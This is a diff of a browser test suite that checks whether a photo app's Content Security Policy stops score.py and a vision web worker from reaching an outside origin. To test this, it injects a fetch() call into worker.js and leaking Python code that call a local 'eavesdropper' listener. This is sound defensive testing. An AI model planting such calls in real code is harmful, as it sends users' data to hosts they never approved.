@@ -100,7 +100,8 @@ def eavesdropper():
     server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
     threading.Thread(target=server.serve_forever, args=(0.05,), daemon=True).start()
     server.heard = heard
-    server.url = f"http://127.0.0.1:{server.server_port}/secret"
+    server.origin = f"http://127.0.0.1:{server.server_port}"
+    server.url = f"{server.origin}/secret"
     yield server
     server.shutdown()
     server.server_close()
@@ -134,34 +135,27 @@ def embs2score(source, candidate):
 BLOCKED = ("Content Security Policy", "violates", "Refused to connect")
 
 
-@pytest.mark.parametrize("listed", [False, True])
-def test_score_py_cannot_reach_a_fourth_origin(fork, query, flickr, eavesdropper, listed):
-    if listed:  # even if it were a photo service
-        origin = eavesdropper.url.removesuffix("/secret")
-        fork.site.edit("courier.html", flickr.origin, f"{flickr.origin} {origin}")
-    fork.expect_errors(*BLOCKED)
-    fork.site.edit_python("score.py", LEAKING_SCORE.format(url=eavesdropper.url))
-    fork.open(photos=5)
-    fork.search(query)
-    expect(fork.items.first).to_be_visible()
-    assert eavesdropper.heard == []
-
-
 @pytest.mark.parametrize("allowed", [False, True])
-def test_the_vision_worker_cannot_either(fork, query, flickr, eavesdropper, allowed):
-    if allowed:  # so the attempts are real, and it is the policy that stops them
-        origin = eavesdropper.url.removesuffix("/secret")
+def test_no_code_reaches_a_fourth_origin(fork, query, flickr, eavesdropper, allowed):
+    """Neither score.py does, nor the vision worker, for which the policy of the page counts."""
+    if allowed:
+        # Not even score.py of one that were a photo service, and that the page may reach. The
+        # worker's attempt then is real, and it is the policy that stops it otherwise.
+        origin = eavesdropper.origin
+        fork.site.edit("courier.html", flickr.origin, f"{flickr.origin} {origin}")
         own = "connect-src 'self' blob:"
         fork.site.edit("index.html", own, f"{own} {origin}")
     fork.expect_errors(*BLOCKED)
+    fork.site.edit_python("score.py", LEAKING_SCORE.format(url=eavesdropper.url))
     fork.site.edit(
         "js/vision/worker.js",
         "async function load(",
-        f'fetch("{eavesdropper.url}").catch(() => {{}});\nasync function load(',
+        f'fetch("{eavesdropper.origin}/vision").catch(() => {{}});\nasync function load(',
     )
     fork.open(photos=5)
     fork.search(query)
-    assert bool(eavesdropper.heard) == allowed
+    expect(fork.items.first).to_be_visible()
+    assert set(eavesdropper.heard) == ({"/vision"} if allowed else set())
 
 
 @pytest.mark.parametrize("file", ["index.html", "courier.html"])
